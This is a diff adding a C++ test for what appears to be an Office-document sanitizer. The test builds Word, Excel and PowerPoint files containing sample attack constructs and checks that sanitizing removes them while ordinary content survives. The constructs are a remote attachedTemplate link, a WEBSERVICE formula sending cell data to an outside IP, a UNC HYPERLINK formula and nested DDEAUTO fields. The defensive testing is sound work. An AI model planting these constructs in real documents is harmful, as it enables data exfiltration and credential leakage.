@@ -60,3 +60,62 @@ TEST_CASE("ooxml: rebuilt Word, Excel and PowerPoint files open in LibreOffice w
     Unzipped z(read_whole(work / "fidelity-book.xlsx"));
     CHECK(z.part("xl/worksheets/sheet1.xml").find("<f>SUM(B1:B2)</f>") != std::string::npos);
 }
+
+TEST_CASE("ooxml: packages rebuilt from issue-11 attacks (smuggled rels, nested fields, markup compatibility, formulas) open in LibreOffice") {
+    if (!soffice_available()) {
+        MESSAGE("soffice not installed (scripts/install-deps.sh --test): LibreOffice fidelity check skipped");
+        return;
+    }
+    const std::string mc = "http://schemas.openxmlformats.org/markup-compatibility/2006";
+    Docx d;
+    d.body = "<w:p><w:r><w:t>公文書の本文</w:t></w:r></w:p>"
+             "<w:p xmlns:mc=\"" + mc + "\" xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\">"
+             "<mc:AlternateContent><mc:Choice Requires=\"wps\"><w:r><w:t>選ばれた枝</w:t></w:r></mc:Choice>"
+             "<mc:Fallback><w:r><w:t>代替の枝</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>"
+             R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>入れ子の結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
+    d.doc_rels = rel("rIdS", "styles", "_rels/settings.xml.rels");
+    d.types = {{"/word/_rels/settings.xml.rels", CT + "wordprocessingml.styles+xml"}};
+    d.settings = "<w:zoom w:percent=\"100\"/>";
+    d.parts = {{"word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
+                                                    rel("rIdT", "attachedTemplate", "http://203.0.113.9/t.dotm", true) + "</Relationships>"}};
+
+    Xlsx x;
+    x.sheets.push_back({"集計", "worksheet", "",
+                        R"(<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>_xlfn.WEBSERVICE("http://203.0.113.9/"&amp;A1)</f><v>4242</v></c>)"
+                        R"(<c r="C1"><f>HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;"203.0.113.9\s","開く")</f><v>0</v></c><c r="D1"><f>'集計'!B1*2</f><v>8484</v></c></row></sheetData>)",
+                        ""});
+    x.shared_strings = "<si><t>項目名</t></si>";
+
+    Pptx p;
+    p.slides.push_back({Pptx::text_shape(2, "防災計画") +
+                            "<mc:AlternateContent xmlns:mc=\"" + mc + "\" xmlns:v=\"urn:schemas-microsoft-com:vml\"><mc:Choice Requires=\"v\">" +
+                            Pptx::text_shape(3, "選択肢の図形") + "</mc:Choice><mc:Fallback>" + Pptx::text_shape(4, "代替の図形") +
+                            "</mc:Fallback></mc:AlternateContent>",
+                        ""});
+
+    TempDir work;
+    std::vector<std::filesystem::path> outputs;
+    for (auto [bytes, name] : {std::pair{d.build(), std::string("issue11-word.docx")},
+                               std::pair{x.build(), std::string("issue11-book.xlsx")},
+                               std::pair{p.build(), std::string("issue11-deck.pptx")}}) {
+        Outcome o = sanitize(bytes, name);
+        auto j = checked_package(o);
+        auto path = work / o.outputs[0].name;
+        write_file(path, o.outputs[0].bytes);
+        CHECK(residual_constructs(path).empty());
+        outputs.push_back(path);
+    }
+    auto text = libreoffice_text(work, outputs);
+    std::string word = text["issue11-word"], book = text["issue11-book"], deck = text["issue11-deck"];
+    CHECK_MESSAGE(word.find("公文書の本文") != std::string::npos, word);
+    CHECK(word.find("選ばれた枝") != std::string::npos);
+    CHECK(word.find("代替の枝") == std::string::npos);
+    CHECK(word.find("入れ子の結果") != std::string::npos);
+    CHECK(word.find("DDEAUTO") == std::string::npos);
+    CHECK_MESSAGE(book.find("項目名") != std::string::npos, book);
+    CHECK(book.find("4242") != std::string::npos);   // the dropped formula's displayed value
+    CHECK(book.find("8484") != std::string::npos);   // the kept formula, recomputed
+    CHECK_MESSAGE(deck.find("防災計画") != std::string::npos, deck);
+    CHECK(deck.find("代替の図形") != std::string::npos);   // Requires="v" is not understood: Fallback
+    CHECK(deck.find("選択肢の図形") == std::string::npos);
+}
